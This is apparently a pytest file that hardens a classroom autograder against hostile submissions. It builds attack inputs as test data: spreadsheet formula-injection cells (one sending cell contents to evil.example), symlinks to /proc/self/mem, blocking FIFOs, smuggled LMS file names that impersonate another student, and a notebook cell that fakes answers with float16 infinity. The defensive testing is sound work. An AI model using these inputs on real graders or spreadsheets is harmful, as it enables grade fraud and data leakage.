"""What a submission hands the grader besides its code: values, names, files and cells.

The unit tests check each rule where it lives: values of exact types
(:func:`grading.compare.assert_equal`), LMS file names parsed anchored and never as
another student's (:mod:`grading.classroom.lms`), submissions read as untrusted files without
following a link or opening a FIFO (:mod:`grading.classroom.matching`), and CSV cells that a
spreadsheet would run as formulas (:mod:`grading.classroom.gradebook`). The batch test at the end
grades one class holding every attack at once with the real command.
"""

from __future__ import annotations

import numpy as np
import pytest

from grading.compare import GradingFailure, assert_equal


# -- values of exact types ------------------------------------------------------------------
class Count(int):
    """An int subclass, as a notebook could return one (the wire refuses them; a hidden
    test's own helper could still make one)."""


@pytest.mark.parametrize("got, expected", [
    (np.float16("inf"), 65536),
    (np.float16("inf"), 2**40),
    (np.float32("inf"), 10**39),
    (np.int64(4), 4),
    (True, 1),
    (1, True),
    (Count(4), 4),
    (4.0, 4),
    (np.float64(2.5), 2.5),
    (np.str_("fp16"), "fp16"),
    ([4, np.int64(5)], [4, 5]),
    ((1, (2, np.float16("inf"))), (1, (2, 70000))),
    ({"pages": np.int64(3)}, {"pages": 3}),
    ({np.int64(1): 2}, {1: 2}),
    ({np.int64(1), 2}, {1, 2}),
    ([1, 2], np.array([1, 2])),
    (np.array([1, 2], dtype=np.int32), np.array([1, 2], dtype=np.int64)),
])
def test_a_value_of_another_type_is_refused_even_when_it_compares_equal(got, expected):
    with pytest.raises(GradingFailure):
        assert_equal(got, expected, "f()")


@pytest.mark.parametrize("got, expected", [
    (4, 4), (True, True), (2.5, 2.5), (3, 3.0), ("fp16", "fp16"), (None, None),
    ([1, [2, 3]], [1, [2, 3]]), ({"a": (1, 2.0)}, {"a": (1, 2.0)}), ({1, 2}, {1, 2}),
    (np.int64(4), np.int64(4)), (np.array([1.0, np.nan]), np.array([1.0, np.nan])),
])
def test_a_value_of_the_expected_type_passes(got, expected):
    assert_equal(got, expected, "f()")


def test_the_message_names_the_type_a_student_returned_and_the_one_expected():
    with pytest.raises(GradingFailure) as err:
        assert_equal(np.float16("inf"), 131072, "kv_bytes_per_token(32, 8, 128)")
    text = str(err.value)
    assert "numpy.float16" in text and "expected a Python int (131072)" in text, text
    with pytest.raises(GradingFailure) as err:
        assert_equal([4, np.int64(5)], [4, 5], "f()")
    assert "in item [1]" in str(err.value), str(err.value)
    with pytest.raises(GradingFailure) as err:  # the float-for-a-count message is kept
        assert_equal(4.0, 4, "f()")
    assert str(err.value) == "f() returned the float 4.0; expected the int 4"


def test_a_wrong_value_is_shown_whole_whatever_its_type():
    with pytest.raises(GradingFailure) as err:
        assert_equal([np.int64(1), 3], [1, 2], "f()")
    assert str(err.value).startswith("f() is wrong\n  expected: [1, 2]"), str(err.value)


# -- LMS names read anchored, never as another student's ------------------------------------------
import csv  # noqa: E402
import os  # noqa: E402
import shutil  # noqa: E402
import zipfile  # noqa: E402
from pathlib import Path  # noqa: E402

from grading.classroom import gradebook as gb  # noqa: E402
from grading.classroom import lms  # noqa: E402
from grading.classroom.exports import Student, write_canvas, write_wide  # noqa: E402
from grading.classroom.matching import list_students, match_folder, name_problem, submission_digest, unpack_zip  # noqa: E402
from grading.classroom.rows import FAILED, OVERRIDDEN, PASSED, PLAIN_NUMBER, REVIEW, Row, csv_cell, csv_value  # noqa: E402
from grading.layout import EXERCISES, SOLUTIONS, discover_chapters  # noqa: E402
from grading.notebook.untrusted import read_untrusted, walk_untrusted  # noqa: E402

STEM = "01_kv_memory"
SOLVED, UNSOLVED = SOLUTIONS / f"{STEM}.ipynb", EXERCISES / f"{STEM}.ipynb"
CHAPTERS = discover_chapters(only=["1"])
# What a student types as their file's name, after the prefix Blackboard writes for them:
# a name that, read greedily, is the victim's attempt a year later.
SMUGGLED = "x_victim_attempt_2027-01-01-00-00-00_01_kv_memory.ipynb"


def _copy_into(folder: Path, names: dict[str, Path]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, source in names.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(source, folder / name)
    return folder


def test_a_name_smuggling_another_student_s_later_attempt_is_not_theirs(tmp_path):
    folder = _copy_into(tmp_path / "bb", {
        "HW1_victim_attempt_2026-12-01-10-00-00_01_kv_memory.ipynb": SOLVED,
        f"HW1_mallory_attempt_2026-12-01-11-00-00_{SMUGGLED}": UNSOLVED})
    assert lms.parse_name(f"HW1_mallory_attempt_2026-12-01-11-00-00_{SMUGGLED}") is None
    first = lms.readings(f"HW1_mallory_attempt_2026-12-01-11-00-00_{SMUGGLED}")[0]
    assert (first.student, first.attempt.year) == ("mallory", 2026)  # the uploader reads first
    found, taken = lms.gather(folder, tmp_path / "scratch")
    got = {s.name: s for s in found}
    assert sorted(got) == ["mallory", "victim"] and len(taken) == 2
    victim = match_folder("victim", got["victim"].folder, CHAPTERS)
    assert victim.notebooks[STEM].read_bytes() == SOLVED.read_bytes() and not got["victim"].problems
    assert not match_folder("mallory", got["mallory"].folder, CHAPTERS).notebooks  # graded as no one's
    assert "reads as more than one LMS name" in got["mallory"].problems[0]


def test_a_name_that_reads_as_two_layouts_goes_to_review(tmp_path):
    # Canvas's prefix, then a file name that Blackboard reads as the victim's attempt.
    name = f"mallory_111_222_{SMUGGLED}"
    assert [r.lms for r in lms.readings(name)] == ["canvas", "blackboard"]
    assert lms.parse_name(name) is None
    # Moodle's prefix repeated inside the file name: two participants.
    assert len(lms.readings("Mallory_7_assignsubmission_file_x_8_assignsubmission_file_01_kv_memory.ipynb")) == 2
    # Ordinary names read one way only.
    for plain in ("smithalice_12345_678901_01_kv_memory.ipynb", "Alice Smith_12345_assignsubmission_file_",
                  "HW_1_alice.smith_attempt_2026-12-01-10-00-00_01_kv_memory.ipynb"):
        assert len(lms.readings(plain)) == 1, plain
    assert lms.parse_name("smithalice_12345_678901_01_kv_memory.ipynb\n") is None  # anchored at the very end


def test_no_canvas_id_is_written_twice(tmp_path):
    roster = [Student("333", "Victim, Vera"), Student("111", "Mallory, Max")]
    rows = [Row("victim", STEM, "1.1", 22, 22, PASSED), Row("victim_bb", STEM, "1.1", 0, 22, FAILED),
            Row("mallory", STEM, "1.1", 0, 22, FAILED)]
    matched = {"victim": roster[0], "victim_bb": roster[0], "mallory": roster[1]}
    (path,), problems = write_canvas(tmp_path, rows, roster, matched)
    ids = [r["ID"] for r in csv.DictReader(path.open(newline="", encoding="utf-8"))][1:]
    assert ids == ["111"], ids
    assert any("333 is left out" in p and "victim, victim_bb" in p for p in problems), problems


# -- submissions read as untrusted files --------------------------------------------------------
def _hostile_folder(folder: Path) -> Path:
    folder.mkdir(parents=True)
    shutil.copyfile(SOLVED, folder / f"{STEM}.ipynb")
    (folder / "mem").symlink_to("/proc/self/mem")
    (folder / "deep" / "er").mkdir(parents=True)
    (folder / "deep" / "er" / "mem.ipynb").symlink_to("/proc/self/mem")
    os.mkfifo(folder / "deep" / "pipe.ipynb")
    (folder / "solutions").symlink_to(SOLUTIONS)  # a link to a folder is not entered
    return folder


@pytest.mark.timeout(20)  # a FIFO opened for reading would block here forever
def test_the_walk_never_follows_a_link_or_opens_a_fifo(tmp_path):
    folder = _hostile_folder(tmp_path / "s")
    files, others = walk_untrusted(folder)
    assert files == [folder / f"{STEM}.ipynb"]
    assert {p.name for p, _ in others} == {"mem", "mem.ipynb", "pipe.ipynb", "solutions"}
    digest = submission_digest(folder)  # it used to read /proc/self/mem and raise
    assert digest == submission_digest(folder)
    sub = match_folder("s", folder, CHAPTERS)
    assert sub.notebooks[STEM] == folder / f"{STEM}.ipynb"
    why = dict(sub.unmatched)
    assert "is a link" in why["deep/er/mem.ipynb"] and "not a regular file" in why["deep/pipe.ipynb"], why
    for bad in ("mem", "deep/pipe.ipynb"):
        with pytest.raises(OSError):
            read_untrusted(folder / bad)


@pytest.mark.timeout(20)
def test_a_link_or_fifo_handed_in_as_the_whole_submission_is_not_opened(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "alice").symlink_to(SOLUTIONS)
    os.mkfifo(subs / "bob.zip")
    (subs / "carol.zip").symlink_to("/proc/self/mem")
    from grading.classroom.grade import open_submission

    students, _ = list_students(subs)
    for student, entry in students:
        submission_digest(entry)
        sub = open_submission(student, entry, CHAPTERS, tmp_path / "scratch")
        assert not sub.notebooks and "it is not graded" in sub.problem, (student, sub)
    assert "not a regular file" in unpack_zip(subs / "bob.zip", tmp_path / "unzipped")


@pytest.mark.timeout(20)
def test_a_moodle_folder_is_copied_without_following_its_links(tmp_path):
    folder = tmp_path / "moodle"
    _hostile_folder(folder / "Mallory Max_7_assignsubmission_file_")
    (folder / "Mallory Max_7_assignsubmission_file_" / f"{STEM}.ipynb").unlink()
    (folder / "Mallory Max_7_assignsubmission_file_" / f"{STEM}.ipynb").symlink_to(SOLVED)
    # A flat file beside the folder: the folder is copied, not used as it is.
    shutil.copyfile(UNSOLVED, folder / "Mallory Max_7_assignsubmission_file_notes.ipynb")
    found, _ = lms.gather(folder, tmp_path / "scratch")
    (mallory,) = found
    copied, others = walk_untrusted(mallory.folder)
    assert not others and all(p.read_bytes() != SOLVED.read_bytes() for p in copied)
    assert any("is a link" in p and f"{STEM}.ipynb" in p for p in mallory.problems), mallory.problems
    assert any("not a regular file" in p for p in mallory.problems), mallory.problems


def test_a_link_inside_a_zip_is_refused(tmp_path):
    path = tmp_path / "z.zip"
    with zipfile.ZipFile(path, "w") as zf:
        info = zipfile.ZipInfo(f"{STEM}.ipynb")
        info.external_attr = 0o120777 << 16
        zf.writestr(info, "/proc/self/mem")
    assert "is a link" in unpack_zip(path, tmp_path / "out")
    assert not (tmp_path / "out").exists()


# -- names that are bytes, not text -----------------------------------------------------------------
NOT_UTF8 = b"ren\xe9"  # Latin-1 "rené": an old zip tool or a git clone writes a name as the bytes it holds
NOT_UTF8_SHOWN = "ren\\xe9"  # how every file written names that student


def test_a_name_that_is_not_utf8_is_graded_under_an_escaped_name(tmp_path):
    """A folder, a file in it and an LMS's file name that are not UTF-8 are read as
    ``\\xNN`` text: listed, hashed, matched and written to every gradebook file (where the
    class used to stop), and the names go to review."""
    subs = tmp_path / "subs"
    raw = os.fsencode(subs)
    os.makedirs(os.path.join(raw, NOT_UTF8))
    shutil.copyfile(UNSOLVED, os.path.join(raw, NOT_UTF8, os.fsencode(f"{STEM}.ipynb")))
    shutil.copyfile(UNSOLVED, os.path.join(raw, NOT_UTF8, b"notes\xff.ipynb"))
    shutil.copyfile(UNSOLVED, os.path.join(raw, b"Ren\xe9 Roe_7_assignsubmission_file_" + os.fsencode(f"{STEM}.ipynb")))
    found, taken = lms.gather(subs, tmp_path / "scratch")
    (moodle,) = found
    assert moodle.name == "Ren\\xe9 Roe" and "is not UTF-8 text" in moodle.problems[0], moodle
    students, ignored = list_students(subs, skip=taken)
    ((name, entry),) = students
    assert name == NOT_UTF8_SHOWN and os.fsencode(entry.name) == NOT_UTF8 and not ignored
    assert "not UTF-8 text" in name_problem(entry.name) and not name_problem("rené")
    sub = match_folder(name, entry, CHAPTERS)
    assert STEM in sub.notebooks and [f for f, _ in sub.unmatched] == ["notes\\xff.ipynb"]
    out = tmp_path / "out"
    book = gb.Gradebook(out, resume=False)
    book.changed(name, submission_digest(entry))  # the hashes: where the class used to stop
    book.add(name, "", [Row(name, "", "", 0, 0, REVIEW, name_problem(entry.name)),
                        Row(name, "", "", 0, 0, REVIEW, os.fsdecode(b"x\xff") + " stays escaped in every cell")])
    book.finish()
    gb.write_feedback(out, name, book.student_rows(name))
    gb.write_review_list(out, book.final_rows())
    for written in ("gradebook.csv", ".graded.csv", ".hashes", "needs_review.md", "feedback/ren_xe9.md"):
        assert NOT_UTF8_SHOWN in (out / written).read_text(encoding="utf-8"), written
    assert "x\\xff stays escaped" in (out / "gradebook.csv").read_text(encoding="utf-8")
    assert gb.Gradebook(out, resume=True).hashes == {name: submission_digest(entry)}


# -- CSV cells that are formulas --------------------------------------------------------------------
@pytest.mark.parametrize("text, cell", [
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'), ("+1+2", "'+1+2"), ("-cmd", "'-cmd"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("'plain", "''plain"),
    ("-2.5", "-2.5"), ("+3", "+3"), ("-1e3", "-1e3"), ("12", "12"), ("alice", "alice"), ("", ""),
])
def test_a_formula_cell_is_quoted_and_a_number_stays_a_number(text, cell):
    assert csv_cell(text) == cell
    assert csv_value(cell) == text


def test_every_csv_the_gradebook_writes_is_escaped_and_reads_back(tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [Row(evil, STEM, "1.1", 2, 4, FAILED, "-1 for a late day"),
            Row(evil, STEM, "1.2", -1.5, 4, OVERRIDDEN, "@instructor: penalty")]
    roster = [Student("+42", evil, "=a@b.c")]
    book = gb.Gradebook(tmp_path, resume=False)
    book.add(evil, STEM, rows)
    book.finish()
    write_wide(tmp_path, rows, roster, {evil: roster[0]})
    write_canvas(tmp_path, rows, roster, {evil: roster[0]})
    for name in ("gradebook.csv", ".graded.csv", "gradebook_wide.csv", "gradebook_canvas.csv"):
        cells = [c for row in csv.reader((tmp_path / name).open(newline="", encoding="utf-8")) for c in row]
        assert not [c for c in cells if c.startswith(("=", "@", "\t", "\r")) or
                    (c.startswith(("+", "-")) and not PLAIN_NUMBER.fullmatch(c))], (name, cells)
        assert "-1.5" in cells or name in ("gradebook_canvas.csv", "gradebook_wide.csv"), (name, cells)
    again = gb.Gradebook(tmp_path, resume=True)  # --resume reads the escaped file back as it was
    assert [(r.student, r.points, r.message) for r in again.rows] == [(r.student, r.points, r.message) for r in rows]


# -- one class holding every attack, graded with the real command ---------------------------------
import subprocess  # noqa: E402
import sys  # noqa: E402

import nbformat  # noqa: E402

from grading.layout import ROOT  # noqa: E402
from grading.proc import sandbox  # noqa: E402

FORMULA = '=HYPERLINK("evil.example?"&A1,"open me")'
VICTIM_FILE = "HW1_victim_attempt_2026-12-01-10-00-00_01_kv_memory.ipynb"
MALLORY_FILE = f"HW1_mallory_attempt_2026-12-01-11-00-00_{SMUGGLED}"
# Every function of the notebook answers with half-precision infinity, which NumPy 2 finds
# equal to every int from 65520 up: each byte count of Chapter 1.
INF_CELL = """
import types as _types
import numpy as _np
for _name, _value in list(globals().items()):
    if isinstance(_value, _types.FunctionType) and _value.__module__ == __name__ and not _name.startswith('_'):
        globals()[_name] = lambda *a, **k: _np.float16('inf')
"""
HIDDEN = '''import pytest

from grading.compare import assert_equal


@pytest.mark.ex1_1
def test_bytes_per_token_held_out(nb):
    assert_equal(nb.kv_bytes_per_token(32, 8, 128, "fp16"), 131072, "kv_bytes_per_token(32, 8, 128)")
'''


def build_hostile_class(base: Path) -> dict:
    subs = base / "submissions"
    subs.mkdir(parents=True)
    shutil.copyfile(SOLVED, subs / VICTIM_FILE)  # Blackboard's download, as it comes
    shutil.copyfile(UNSOLVED, subs / MALLORY_FILE)
    linker = subs / "linker"  # a folder of links and a FIFO, one named as the chapter's notebook
    linker.mkdir()
    (linker / f"{STEM}.ipynb").symlink_to("/proc/self/mem")
    (linker / "notes").symlink_to("/proc/self/mem")
    (linker / "work").mkdir()
    os.mkfifo(linker / "work" / "pipe.ipynb")
    (linker / "answers").symlink_to(SOLUTIONS)
    (subs / FORMULA).mkdir()
    shutil.copyfile(UNSOLVED, subs / FORMULA / f"{STEM}.ipynb")
    nb = nbformat.read(UNSOLVED, as_version=4)
    cell = nbformat.v4.new_code_cell(INF_CELL)
    cell.pop("id", None)  # the exercise notebooks are nbformat 4.4, whose cells have no id
    nb.cells.append(cell)
    (subs / "half_inf").mkdir()
    nbformat.write(nb, subs / "half_inf" / f"{STEM}.ipynb")
    # A folder whose name is not UTF-8, holding the stub and a stray file named likewise.
    raw = os.path.join(os.fsencode(subs), NOT_UTF8)
    os.mkdir(raw)
    shutil.copyfile(UNSOLVED, os.path.join(raw, os.fsencode(f"{STEM}.ipynb")))
    shutil.copyfile(UNSOLVED, os.path.join(raw, b"notes\xff.ipynb"))
    (base / "hidden").mkdir()
    (base / "hidden" / "test_01_held_out.py").write_text(HIDDEN)
    roster = base / "roster.csv"
    roster.write_text("id,name,folder\n333,\"Victim, Vera\",victim\n111,\"Mallory, Max\",mallory\n")
    return {"subs": subs, "out": base / "grades", "hidden": base / "hidden", "roster": roster}


ATTACKERS = ("mallory", "linker", FORMULA, "half_inf", NOT_UTF8_SHOWN)  # every point they earn is forged
VICTIM = "victim"


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    if not sandbox.status().sandboxed:
        pytest.skip(f"needs the grading sandbox here: {sandbox.status().line}")
    return grade_hostile_class(build_hostile_class(tmp_path_factory.mktemp("hostile_files")))


def grade_hostile_class(made: dict) -> dict:
    """Grade the class :func:`build_hostile_class` made with ``grading.batch``: the run,
    and every CSV it wrote, read as cells (also ``make bench``'s, benchmarks/bench_integrity.py)."""
    proc = subprocess.run([sys.executable, "-m", "grading.batch", str(made["subs"]), "--out", str(made["out"]),
                           "--chapters", "1", "--workers", "2", "--timeout", "120", "--memory-mb", "3000",
                           "--extra-tests", str(made["hidden"]), "--roster", str(made["roster"]), "--quiet"],
                          cwd=ROOT, capture_output=True, text=True, timeout=1400,
                          # This checkout's grading package in the children too, whatever the venv installed.
                          env={**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(ROOT),
                                                                                          os.environ.get("PYTHONPATH")]))})

    def read(name):
        return list(csv.reader((made["out"] / name).open(newline="", encoding="utf-8")))

    return {**made, "proc": proc, "csv": {n: read(n) for n in ("gradebook.csv", "gradebook_wide.csv",
                                                                "gradebook_canvas.csv")}}


def _points(graded: dict, student: str) -> tuple[float, float, list]:
    header, *rows = graded["csv"]["gradebook.csv"]
    mine = [dict(zip(header, r)) for r in rows if csv_value(r[0]) == student and r[2]]
    assert mine, f"{student} has no graded row"
    return (sum(float(r["points"]) for r in mine), sum(float(r["max_points"]) for r in mine),
            [(r["exercise"], r["status"], r["message"][:200]) for r in mine])


@pytest.mark.timeout(1500)
def test_a_class_of_hostile_files_is_graded_whole(hostile_class):
    proc, out = hostile_class["proc"], hostile_class["out"]
    assert proc.returncode == 0, proc.stderr[-3000:]
    victim = _points(hostile_class, "victim")
    assert victim[0] == victim[1] > 0 and any("hidden" in r[0] for r in victim[2]), victim  # hidden test too
    for attacker in ATTACKERS:
        assert _points(hostile_class, attacker)[0] == 0, (attacker, _points(hostile_class, attacker))
    review = (out / "needs_review.md").read_text()
    assert "**mallory**" in review and "reads as more than one LMS name" in review, review
    assert "**linker**" in review and "is a link" in review and "not a regular file" in review, review
    assert "numpy.float16" in (out / "feedback" / "half_inf.md").read_text()
    assert f"**{NOT_UTF8_SHOWN}**" in review and "is not UTF-8 text" in review, review  # graded, and in review
    assert "notes\\xff.ipynb" in (out / "feedback" / "ren_xe9.md").read_text(encoding="utf-8")
    for name, rows in hostile_class["csv"].items():
        assert not [c for r in rows for c in r if c.startswith(("=", "@"))], name
    students = {csv_value(r[0]) for r in hostile_class["csv"]["gradebook_wide.csv"][1:]}
    assert {"victim", "mallory", "linker", FORMULA, "half_inf", NOT_UTF8_SHOWN} <= students, students
    canvas_ids = [r[1] for r in hostile_class["csv"]["gradebook_canvas.csv"][2:]]
    # The victim once; Mallory (graded as nobody's) at most once: no Canvas id is written twice.
    assert canvas_ids.count("333") == 1 and len(set(canvas_ids)) == len(canvas_ids) <= 2, canvas_ids
